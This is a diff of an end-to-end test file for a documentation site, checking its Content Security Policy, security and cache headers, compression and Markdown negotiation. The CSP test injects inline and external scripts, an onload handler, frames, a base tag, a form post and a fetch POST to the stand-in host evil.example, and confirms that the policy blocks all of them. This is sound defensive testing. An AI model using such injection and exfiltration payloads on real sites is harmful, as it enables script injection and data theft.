@@ -5,18 +5,13 @@
  * violation is a console error, which fails the test (fixtures.ts).
  */
 // cspell:ignore cevil cpackage fbilling fevil
-import {cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
 import {get, type IncomingHttpHeaders} from 'node:http';
-import {tmpdir} from 'node:os';
-import path from 'node:path';
 import {gunzipSync} from 'node:zlib';
-import {startNginx} from '../support/nginx';
 import {IMMUTABLE, REVALIDATE} from '../../src/config/node/headers';
-import {builtRedirects} from '../support/builtSite';
+import {builtRedirects, readBuilt} from '../support/builtSite';
 import {observatory} from '../support/observatory';
-import {expect, openHydrated} from './fixtures';
-import {NGINX_FILE, PROJECT, test} from './servers';
-import {modeButton} from './site';
+import {expect} from './fixtures';
+import {test} from './servers';
 
 type Answer = {
   readonly status: number;
@@ -46,95 +41,41 @@ function ask(
   });
 }
 
-test.describe('a page in the browser', () => {
-  test('shows diagrams in both modes', async ({page, nginx}) => {
-    const node = page.locator('.docusaurus-mermaid-container svg rect').first();
-    const fill = () => node.evaluate((rect) => getComputedStyle(rect).fill);
-    await openHydrated(page, `${nginx}/docs/serenity-aihub/agents`);
-    await expect(node).toBeVisible();
-    const light = await fill();
-    // A shape without its color variable is black.
-    expect(light).not.toBe('rgb(0, 0, 0)');
-    await modeButton(page).click();
-    await expect.poll(fill).not.toBe(light);
-    await expect(page.locator('svg style')).toHaveCount(0);
+test('the policy blocks injected code and other hosts', async ({page, nginx, expectedErrors}) => {
+  expectedErrors.push(/Policy violated|Content Security Policy/);
+  await page.goto(nginx);
+  await page.evaluate(() => {
+    const other = 'https://evil.example/';
+    const blocked = new Set<string>();
+    Object.assign(window, {listBlocked: () => [...blocked].sort()});
+    document.addEventListener('securitypolicyviolation', ({disposition, effectiveDirective}) =>
+      blocked.add(`${disposition} ${effectiveDirective}`),
+    );
+    const box = document.createElement('div');
+    box.innerHTML = `<style>body {color: red}</style><iframe src="${other}"></iframe>
+      <img src="/img/mark.svg" onload="alert(1)"><form action="${other}" method="post"></form>`;
+    const inline = Object.assign(document.createElement('script'), {textContent: 'alert(1)'});
+    const external = Object.assign(document.createElement('script'), {src: other});
+    document.body.append(box, inline, external);
+    document.head.append(Object.assign(document.createElement('base'), {href: other}));
+    box.querySelector('form')?.submit();
+    void fetch(other, {method: 'POST'}).catch(() => undefined);
+    setTimeout(() => new Function('return 1'));
   });
-
-  test('blocks injected code and other hosts', async ({page, nginx, expectedErrors}) => {
-    expectedErrors.push(/Policy violated|Content Security Policy/);
-    // Requests that the policy blocks don't reach this handler.
-    const reached: string[] = [];
-    await page.route('https://evil.example/**', (route) => {
-      reached.push(route.request().url());
-      return route.abort();
-    });
-    await page.goto(nginx);
-    const outcome = await page.evaluate(async () => {
-      const violations: string[] = [];
-      document.addEventListener('securitypolicyviolation', (event) =>
-        violations.push(event.effectiveDirective),
-      );
-      const script = document.createElement('script');
-      script.textContent = 'window.scriptRan = true';
-      const external = document.createElement('script');
-      external.src = 'https://evil.example/x.js';
-      const style = document.createElement('style');
-      style.textContent = 'body {color: rgb(1, 2, 3)}';
-      const frame = document.createElement('iframe');
-      frame.src = 'https://evil.example/';
-      const base = document.createElement('base');
-      base.href = 'https://evil.example/';
-      const image = document.createElement('div');
-      image.innerHTML = '<img src="/img/mark.svg" onload="window.handlerRan = true">';
-      const loaded = new Promise((resolve) =>
-        image.querySelector('img')?.addEventListener('load', resolve),
-      );
-      document.body.append(script, external, style, frame, image);
-      document.head.append(base);
-      await loaded;
-      const [sending, evaluation] = await Promise.allSettled([
-        fetch('https://evil.example/collect', {method: 'POST', body: 'x'}),
-        new Promise((resolve) => resolve(new Function('return 1')())),
-      ]);
-      // Violations are reported asynchronously, so trigger a last one and wait for it.
-      await new Promise<void>((resolve) => {
-        document.addEventListener('securitypolicyviolation', (event) => {
-          if (event.effectiveDirective === 'form-action') resolve();
-        });
-        const form = document.createElement('form');
-        form.action = 'https://evil.example/';
-        form.method = 'post';
-        document.body.append(form);
-        form.submit();
-      });
-      return {
-        sending: sending.status,
-        evaluation: evaluation.status,
-        ran: 'scriptRan' in window || 'handlerRan' in window,
-        color: getComputedStyle(document.body).color,
-        base: document.baseURI,
-        violations: [...new Set(violations)].sort(),
-      };
-    });
-    expect(outcome).toMatchObject({
-      sending: 'rejected',
-      evaluation: 'rejected',
-      ran: false,
-      base: `${nginx}/`,
-    });
-    expect(outcome.color).not.toBe('rgb(1, 2, 3)');
-    expect(outcome.violations).toEqual([
-      'base-uri',
-      'connect-src',
-      'form-action',
-      'frame-src',
-      'script-src',
-      'script-src-attr',
-      'script-src-elem',
-      'style-src-elem',
-    ]);
-    expect(reached).toEqual([]);
-  });
+  await expect
+    .poll(() => page.evaluate('listBlocked()'))
+    .toEqual(
+      [
+        'base-uri',
+        'connect-src',
+        'form-action',
+        'frame-src',
+        'script-src',
+        'script-src-attr',
+        'script-src-elem',
+        'style-src-elem',
+      ].map((directive) => `enforce ${directive}`),
+    );
 });
 
 const SECURITY_HEADERS = {
@@ -145,80 +86,59 @@ const SECURITY_HEADERS = {
   'cross-origin-resource-policy': 'same-origin',
 } as const;
 
-/** Hashed file names are read from the build. */
-function firstMatch(file: string, pattern: RegExp): string {
-  const [found] = pattern.exec(readFileSync(path.join(PROJECT, 'build', file), 'utf8')) ?? [];
-  if (!found) throw new Error(`build/${file} has no match for ${pattern}.`);
+/** @returns a file that the landing page names with its hash */
+function findHashed(pattern: RegExp): string {
+  const [found] = pattern.exec(readBuilt('index.html')) ?? [];
+  if (!found) throw new Error(`build/index.html has no match for ${pattern}.`);
   return found;
 }
 
-const MAIN_SCRIPT = firstMatch('index.html', /\/assets\/js\/main\.[0-9a-f]+\.js/);
+const MAIN_SCRIPT = findHashed(/\/assets\/js\/main\.[0-9a-f]+\.js/);
 const HTML = /^text\/html; ?charset=utf-8$/;
 
-type Kind = readonly [
-  kind: string,
-  target: string,
-  status: number,
-  type: RegExp | string,
-  cache: string,
-];
-
-const KINDS: readonly Kind[] = [
-  ['home page', '/', 200, HTML, REVALIDATE],
-  ['page', '/docs/billing', 200, HTML, REVALIDATE],
-  ['page with a query', '/search?q=a%2fb', 200, HTML, REVALIDATE],
-  ['unlisted page', '/docs/responsible-use-of-ai', 200, HTML, REVALIDATE],
-  ['missing page', '/docs/no-such-page', 404, HTML, REVALIDATE],
-  ['error page by its own name', '/404.html', 404, HTML, REVALIDATE],
-  ['script', MAIN_SCRIPT, 200, /^text\/javascript/, IMMUTABLE],
+const RESPONSES: readonly [target: string, type: RegExp | string, cache?: string, status?: 404][] =
   [
-    'stylesheet',
-    firstMatch('index.html', /\/assets\/css\/styles\.[0-9a-f]+\.css/),
-    200,
-    /^text\/css/,
-    IMMUTABLE,
-  ],
-  ['font', firstMatch('index.html', /\/fonts\/[\w.-]+\.woff2/), 200, 'font/woff2', IMMUTABLE],
-  ['missing asset', '/assets/js/main.00000000.js', 404, HTML, REVALIDATE],
-  ['image', '/img/apple-touch-icon.png', 200, 'image/png', REVALIDATE],
-  [
-    'preview image',
-    firstMatch('index.html', /\/assets\/link-previews\/[0-9a-f]+\.png/),
-    200,
-    'image/png',
-    IMMUTABLE,
-  ],
-  ['drawing', '/img/favicon.svg', 200, 'image/svg+xml', REVALIDATE],
-  ['search titles', '/search-index/titles.json', 200, /^application\/json/, REVALIDATE],
-  ['sitemap', '/sitemap.xml', 200, /^application\/xml/, REVALIDATE],
-  ['feed', '/rss.xml', 200, /^application\/xml/, REVALIDATE],
-  ['manifest', '/manifest.webmanifest', 200, /^application\/manifest\+json/, REVALIDATE],
-  ['rules for crawlers', '/robots.txt', 200, /^text\/plain/, REVALIDATE],
-  ['API description', '/api/openapi.json', 200, /^application\/json/, REVALIDATE],
-  ['API description, YAML', '/api/openapi.yaml', 200, /^application\/yaml/, REVALIDATE],
-];
+    ['/', HTML],
+    ['/docs/billing', HTML],
+    ['/search?q=a%2fb', HTML],
+    ['/docs/responsible-use-of-ai', HTML],
+    ['/docs/no-such-page', HTML, REVALIDATE, 404],
+    ['/404.html', HTML, REVALIDATE, 404],
+    ['/assets/js/main.00000000.js', HTML, REVALIDATE, 404],
+    [MAIN_SCRIPT, /^text\/javascript/, IMMUTABLE],
+    [findHashed(/\/assets\/css\/styles\.[0-9a-f]+\.css/), /^text\/css/, IMMUTABLE],
+    [findHashed(/\/fonts\/[\w.-]+\.woff2/), 'font/woff2', IMMUTABLE],
+    [findHashed(/\/assets\/link-previews\/[0-9a-f]+\.png/), 'image/png', IMMUTABLE],
+    ['/img/apple-touch-icon.png', 'image/png'],
+    ['/img/favicon.svg', 'image/svg+xml'],
+    ['/search-index/titles.json', /^application\/json/],
+    ['/sitemap.xml', /^application\/xml/],
+    ['/rss.xml', /^application\/xml/],
+    ['/manifest.webmanifest', /^application\/manifest\+json/],
+    ['/robots.txt', /^text\/plain/],
+    ['/api/openapi.json', /^application\/json/],
+    ['/api/openapi.yaml', /^application\/yaml/],
+  ];
 
-const SERVERS = ['nginx', 'npm run serve'] as const;
-
-for (const name of SERVERS) {
+for (const name of ['nginx', 'npm run serve']) {
   test.describe(name, () => {
     const address = (nginx: string, baseURL = '') => (name === 'nginx' ? nginx : baseURL);
 
     test('responds with status, all headers, compression, and 304', async ({nginx, baseURL}) => {
       const server = address(nginx, baseURL);
-      for (const [kind, target, status, type, cache] of KINDS) {
+      for (const [target, type, cache = REVALIDATE, status = 200] of RESPONSES) {
         const answer = await ask(server, target, {'Accept-Encoding': 'gzip'});
-        expect.soft(answer.status, kind).toBe(status);
-        expect.soft(answer.headers['content-type'], kind).toMatch(type);
-        expect.soft(answer.headers['cache-control'], kind).toBe(cache);
-        expect.soft(answer.headers, kind).toMatchObject(SECURITY_HEADERS);
-        expect.soft(answer.headers['permissions-policy'], kind).toContain('geolocation=()');
+        expect.soft(answer.status, target).toBe(status);
+        expect.soft(answer.headers['content-type'], target).toMatch(type);
+        expect.soft(answer.headers['cache-control'], target).toBe(cache);
+        expect.soft(answer.headers, target).toMatchObject(SECURITY_HEADERS);
+        expect.soft(answer.headers['permissions-policy'], target).toContain('geolocation=()');
         const policy = answer.headers['content-security-policy'];
-        expect.soft(policy, kind).toContain("default-src 'none'");
-        expect.soft(policy, kind).toContain("frame-ancestors 'none'");
+        expect.soft(policy, target).toContain("default-src 'none'");
+        expect.soft(policy, target).toContain("frame-ancestors 'none'");
         const vary = cache === IMMUTABLE ? /^(?:Accept-Encoding)?$/ : /\bAccept\b(?!-)/;
-        if (status === 200) expect.soft(answer.headers.vary ?? '', kind).toMatch(vary);
-        else expect.soft(answer.body, kind).toContain('Page Not Found');
+        if (status === 200) expect.soft(answer.headers.vary ?? '', target).toMatch(vary);
+        else expect.soft(answer.body, target).toContain('Page Not Found');
       }
       const page = await ask(server, '/docs/billing', {'Accept-Encoding': 'gzip'});
       expect(page.headers['content-encoding']).toBe('gzip');
@@ -284,45 +204,31 @@ for (const name of SERVERS) {
       const flat = Object.fromEntries(
         Object.entries(headers).map(([header, value]) => [header, String(value)]),
       );
-      const gradeOf = (sent: Parameters<typeof observatory>[0]) =>
+      const rate = (sent: Parameters<typeof observatory>[0]) =>
         observatory(sent, body, 'https://docs.example.com');
-      const {grade, score, results} = gradeOf(flat);
+      const {grade, score, results} = rate(flat);
       expect(grade, JSON.stringify(results, null, 2)).toBe('A+');
       expect(score).toBe(130);
       // The grade changes with the headers.
-      expect(gradeOf({...flat, 'content-security-policy': undefined}).grade).toBe('C');
+      expect(rate({...flat, 'content-security-policy': undefined}).grade).toBe('C');
     });
   });
 }
 
-test('serves Markdown to clients that prefer it, and HTML to others', async () => {
-  const root = mkdtempSync(path.join(tmpdir(), 'docs-markdown-'));
-  mkdirSync(path.join(root, 'docs'));
-  for (const page of ['404', 'index', 'docs/with', 'docs/without']) {
-    writeFileSync(path.join(root, `${page}.html`), `<title>${page}</title>`);
-  }
-  writeFileSync(path.join(root, 'index.md'), '# Home');
-  writeFileSync(path.join(root, 'docs/with.md'), '# With');
-  cpSync(path.join(PROJECT, 'static/favicon.ico'), path.join(root, 'favicon.ico'));
-  const nginx = await startNginx({config: NGINX_FILE, root});
-  try {
-    const type = async (target: string, accept?: string) =>
-      (await ask(nginx.url, target, accept === undefined ? {} : {Accept: accept})).headers[
-        'content-type'
-      ];
-    const markdown = 'text/markdown; charset=utf-8';
-    const html = 'text/html; charset=utf-8';
-    expect(await type('/docs/with', 'text/markdown')).toBe(markdown);
-    expect(await type('/docs/with', 'text/plain')).toBe(markdown);
-    expect(await type('/', 'TEXT/MARKDOWN')).toBe(markdown);
-    expect(await type('/docs/with.md')).toBe(markdown);
-    expect(await type('/docs/with')).toBe(html);
-    expect(await type('/docs/with', 'text/html, text/markdown;q=0.5')).toBe(html);
-    expect(await type('/docs/without', 'text/markdown')).toBe(html);
-    expect(await type('/favicon.ico', 'text/markdown')).toBe('image/x-icon');
-    expect((await ask(nginx.url, '/docs/none', {Accept: 'text/markdown'})).status).toBe(404);
-  } finally {
-    await nginx.stop();
-    rmSync(root, {recursive: true, force: true});
+test('serves Markdown to clients that prefer it, and HTML to others', async ({nginx}) => {
+  const [markdown, html] = ['text/markdown; charset=utf-8', 'text/html; charset=utf-8'];
+  for (const [target, accept, type, status = 200] of [
+    ['/docs/billing', 'text/markdown', markdown],
+    ['/docs/billing', 'text/plain', markdown],
+    ['/', 'TEXT/MARKDOWN', markdown],
+    ['/docs/billing.md', '*/*', markdown],
+    ['/docs/billing', '*/*', html],
+    ['/docs/billing', 'text/html, text/markdown;q=0.5', html],
+    ['/search', 'text/markdown', html],
+    ['/favicon.ico', 'text/markdown', 'image/x-icon'],
+    ['/docs/none', 'text/markdown', html, 404],
+  ] as const) {
+    const answer = await ask(nginx, target, {Accept: accept});
+    expect([answer.headers['content-type'], answer.status], target).toEqual([type, status]);
   }
 });
